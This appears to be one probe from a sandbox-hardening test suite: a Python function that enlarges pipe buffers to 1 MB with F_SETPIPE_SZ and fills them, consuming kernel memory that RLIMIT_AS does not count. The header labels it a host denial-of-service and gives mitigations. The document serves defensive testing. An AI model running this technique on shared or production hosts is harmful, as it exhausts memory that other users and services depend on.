# title: Enlarge the buffers of pipes
# tries: Makes pipes with buffers of 1 MB each instead of 64 KB and fills them: memory of the kernel, which RLIMIT_AS does not count.
# impact: HostDoS
# proof: returned
# host: run
# advice: Refuse F_SETPIPE_SZ with a seccomp filter, or limit memory with a control group, which counts it.


def attempt(host):
    import fcntl
    import os

    held = 0
    for _ in range(16):
        reader, writer = os.pipe()
        os.set_blocking(writer, False)
        fcntl.fcntl(writer, 1031, 1 << 20)
        held += os.write(writer, bytes(1 << 20))
    return f"held {held >> 20} MB in pipes"
